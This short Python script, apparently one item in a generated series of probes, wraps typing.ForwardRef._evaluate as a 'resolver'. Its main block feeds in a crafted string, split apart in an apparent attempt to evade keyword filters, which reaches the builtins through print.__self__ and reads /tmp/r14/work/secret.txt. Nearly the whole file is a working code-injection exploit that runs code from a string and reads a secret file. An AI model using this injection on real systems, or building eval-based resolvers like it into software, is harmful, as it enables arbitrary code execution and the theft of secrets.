# family: forwardref (written blind, round 14)
"""Forward reference resolver."""
import typing

def resolve(name: str, ns: dict):
    ref = typing.ForwardRef(name)
    return ref._evaluate(ns, ns, frozenset())

if __name__ == "__main__":
    src = "type(print(pr" + "int.__self__.open('/tmp/r14/work/secret.txt').read()))"
    print(resolve(src, {}))
